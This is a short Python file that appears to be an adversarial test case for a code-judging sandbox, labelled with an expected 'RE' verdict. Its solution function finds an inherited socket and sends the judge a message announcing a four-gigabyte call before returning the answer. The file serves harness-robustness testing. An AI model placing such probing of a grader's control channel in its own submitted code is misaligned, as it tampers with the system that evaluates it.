# attack: announces a call of four gigabytes
# verdict: RE
# kata: tape
import os
import stat


def link():
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass
    raise LookupError("no link")


def u32(number):
    return number.to_bytes(4, "little")


def total(tape):
    os.write(link(), b"\x01\xff\xff\xff\xff" + bytes(1000))
    return tape[0] + tape[1] + tape[2]
